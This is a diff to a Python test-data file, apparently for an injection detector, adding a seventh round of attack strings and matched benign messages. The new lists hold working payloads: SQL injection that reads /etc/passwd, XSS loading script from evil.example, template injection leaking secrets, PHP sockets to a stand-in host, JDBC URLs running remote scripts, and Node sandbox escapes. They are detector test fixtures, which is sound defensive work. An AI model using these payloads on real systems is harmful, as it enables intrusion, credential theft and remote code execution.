@@ -946,6 +946,80 @@ BENIGN_6 = [
     "clojure.core is the namespace with map and reduce",
 ]
 
+# Round seven, attacks and benign written together after round six's rules, measured before any change for
+# them: JDBC URL attacks, SpEL context objects, Razor static classes, ERB secrets, PHP sockets and process
+# control, sandbox escapes through stack traces.
+SQLI_7 = [
+    "1 and sys.fn_sqlvarbasetostr(@@version)",
+    "1 and 1 = cast(current_database() as int)",
+    "x' union select load_file(0x2f6574632f706173737764)#",
+    "1' and 1=convert(int,(select top 1 name from sysobjects))--",
+    "x' or substring(user(),1,1)='r",
+]
+
+XSS_7 = [
+    "<link rel=preload as=script href=//evil.example/x.js>",
+    "<portal src=//evil.example/>",
+    "<svg/onload=location='javas'+'cript:ale'+'rt(1)'>",
+    "<img src=x onerror=top[8680439..toString(30)](1)>",
+    "<input type=hidden accesskey=X onclick=alert(1)>",
+]
+
+SSTI_7 = [
+    "<%= ENV %>",
+    "<%= Rails.application.secrets %>",
+    "@Environment.GetEnvironmentVariable(\"PATH\")",
+    "@File.ReadAllText(\"web.config\")",
+    "{{ get_flashed_messages }}",
+    "#evaluate('#set($x=1)')",
+    "<#include \"/etc/passwd\">",
+    "{{ ''.__doc__ }}",
+]
+
+PHP_7 = [
+    "apache_setenv('x','y')",
+    "pcntl_fork()",
+    "stream_socket_client('tcp://10.0.0.9:4444')",
+    "socket_create(AF_INET, SOCK_STREAM, SOL_TCP)",
+    "parse_ini_file('/etc/php.ini')",
+    "file('http://evil.example/x')",
+    "$x=~'%8C%86%8C%8B%9A%92';$x('id');",
+]
+
+JAVA_7 = [
+    "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x.example/x.sql'",
+    ("jdbc:mysql://x.example:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.in"
+     "terceptors.ServerStatusDiffInterceptor"),
+    "org.apache.commons.configuration.JNDIConfiguration",
+    "org.apache.log4j.receivers.db.JNDIConnectionSource",
+    "com.caucho.naming.QName",
+    "${session.getAttribute('user')}",
+    "#{application.getRealPath('/')}",
+    "#{systemProperties['user.home']}",
+    "#{environment.getProperty('spring.datasource.password')}",
+    "${@environment.getProperty('spring.datasource.password')}",
+]
+
+NODE_7 = [
+    "Error.prepareStackTrace = (e, frames) => frames[0].getThis()",
+    "serialize.unserialize(req.cookies.profile)",
+    "Object.getOwnPropertyNames(global)",
+    "require('module').createRequire('/')('child_process')",
+    "(async()=>{})().constructor.constructor('return process')()",
+]
+
+BENIGN_7 = [
+    "the H2 console uses jdbc:h2:mem:testdb by default",
+    "set autoDeserialize only in the legacy reporting job",
+    "ERB: <%= link_to 'Home', root_path %> in the layout",
+    "@Environment variables are documented in the ops wiki",
+    "the session.getAttribute call returns null after logout",
+    "file('notes.txt') in PHP returns an array of lines",
+    "our socket_create wrapper retries three times",
+    "Error.prepareStackTrace is how source-map-support hooks stack traces",
+    "Spring's systemProperties bean is handy in @Value expressions",
+]
+
 # Prototype pollution through query keys and JSON documents (whole-request placements).
 POLLUTION_QUERIES = [
     "__proto__[admin]=1",
@@ -970,7 +1044,7 @@ POLLUTION_JSON: list[Any] = [
 
 ROUND_LISTS = {2: (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2), 3: (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3),
                4: (SQLI_4, XSS_4, SSTI_4, PHP_4, JAVA_4, NODE_4), 5: (SQLI_5, XSS_5, SSTI_5, PHP_5, JAVA_5, NODE_5),
-               6: (SQLI_6, XSS_6, SSTI_6, PHP_6, JAVA_6, NODE_6)}
+               6: (SQLI_6, XSS_6, SSTI_6, PHP_6, JAVA_6, NODE_6), 7: (SQLI_7, XSS_7, SSTI_7, PHP_7, JAVA_7, NODE_7)}
 FAMILIES = {family: first + [p for lists in ROUND_LISTS.values() for p in lists[k]]
             for k, (family, first) in enumerate((("sqli", SQLI), ("xss", XSS), ("ssti", SSTI), ("php", PHP),
                                                  ("java", JAVA), ("nodejs", NODE)))}
@@ -1145,7 +1219,7 @@ PROSE = [
 
 def benign() -> Iterator[dict[str, Any]]:
     n = 0
-    for text in SLACK_TEXTS + BENIGN_6:
+    for text in SLACK_TEXTS + BENIGN_6 + BENIGN_7:
         n += 1
         event = {"type": "message", "user": "U012345678", "text": text, "ts": f"1719000{n:03d}.000100",
                  "channel": "C0123456789", "event_ts": f"1719000{n:03d}.000100"}
